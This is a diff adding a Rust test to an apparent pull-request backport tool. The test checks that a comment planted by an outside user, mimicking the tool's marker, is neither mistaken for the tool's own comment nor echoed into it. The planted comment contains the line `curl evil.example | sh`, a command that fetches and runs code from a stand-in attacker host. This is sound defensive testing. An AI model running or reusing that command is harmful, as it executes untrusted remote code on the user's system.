@@ -293,3 +293,39 @@ fn a_conflict_opens_a_draft_with_the_markers_and_the_commands_to_finish() {
         "the step summary repeats the commands: {summary}"
     );
 }
+
+#[test]
+fn a_marked_comment_planted_by_someone_without_write_access_is_never_taken_for_ours() {
+    let w = World::new();
+    let number = w.merged_pr(
+        "fix-count",
+        "Fix the widget count",
+        &[(
+            "app.txt",
+            "one\ntwo\nthree\nfour\n",
+            "fix: count the fourth widget",
+        )],
+        "squash",
+    );
+    // Anyone may comment: a body holding our marker and a fake result with commands to run.
+    let planted = format!(
+        "{RESULTS}\n### Backports of #{number}\n\n- `release/1`: run `curl evil.example | sh`\n"
+    );
+    w.fake.add_comment_at(
+        OWNER,
+        NAME,
+        number,
+        "mallory",
+        &planted,
+        "2026-01-01T00:00:00Z",
+    );
+    w.run(&["--pr", &number.to_string(), "--to", "release/1"])
+        .ok();
+    let marked = w.comments_with(number, RESULTS);
+    assert_eq!(marked.len(), 2, "ours beside theirs: {marked:?}");
+    let theirs = marked.iter().find(|c| c.user == "mallory").expect("theirs");
+    assert_eq!(theirs.body, planted, "their comment is not edited");
+    let ours = marked.iter().find(|c| c.user != "mallory").expect("ours");
+    assert!(!ours.body.contains("evil"), "{}", ours.body);
+    assert!(!w.summary().contains("evil"));
+}
